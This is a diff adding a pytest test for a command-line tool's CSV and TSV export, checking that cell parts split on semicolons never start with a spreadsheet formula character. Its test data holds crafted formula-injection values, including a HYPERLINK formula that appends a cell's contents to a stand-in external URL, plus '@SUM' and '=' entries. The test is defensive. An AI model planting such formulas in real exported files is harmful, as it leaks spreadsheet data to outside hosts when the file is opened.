@@ -2,6 +2,7 @@
 
 import csv
 import json
+import re
 import shutil
 import subprocess
 from collections.abc import Callable
@@ -10,7 +11,7 @@ from io import StringIO
 from pathlib import Path
 
 import pytest
-from conftest import SMALL, Ran
+from conftest import SMALL, Ran, WriteStore
 from markdown_it import MarkdownIt
 from ptys import PROGRAMS
 
@@ -151,3 +152,30 @@ def test_a_renderer_of_markdown_reads_md(parkq: Parkq, facts: Rows) -> None:
 def test_a_program_of_the_standard_library_reads_csv(parkq: Parkq, facts: Rows) -> None:
     text = parkq("list", "facts", "-f", "csv", *COLUMNS).out
     assert list(csv.DictReader(StringIO(text, newline=""))) == guarded(facts)
+
+
+def test_no_part_of_a_cell_is_a_formula_where_semicolons_part_cells(
+    parkq: Parkq, write_store: WriteStore
+) -> None:
+    facts = "".join(
+        f'[[fact]]\nentity = "e"\nattribute = "{attribute}"\nscope = "s{n}"\n'
+        f"stated = {json.dumps(stated)}\n"
+        for n, (attribute, stated) in enumerate(
+            [
+                *(("name", 'a;=HYPERLINK("http://x.example/?"&A1;"x")'), ("name", "a; @SUM(1)")),
+                *(("name", "a;-5;+1.5%"), ("sectors", "a、=b、c;=d"), ("name", "= 1;=2")),
+            ]
+        )
+    )
+    root = write_store(
+        {
+            "a.toml": "schema = 1\n"
+            '[attribute.name]\nlabel = { en = "n", zh = "n" }\nkind = "text"\n'
+            '[attribute.sectors]\nlabel = { en = "s", zh = "s" }\nkind = "list"\n'
+            f'[[entity]]\nid = "e"\nname = "N"\n[source]\nid = "s"\ntitle = "A"\n{facts}'
+        }
+    )
+    for form, marks in (("csv", ";,\n"), ("tsv", ";\t\n")):
+        ran = parkq("show", "e", "--store", str(root), "-f", form)
+        parts = re.split(f"[{marks}]", ran.out.replace('"', ""))
+        assert [part for part in parts if part.strip()[:1] in set("=+@")] == ["+1.5%"]
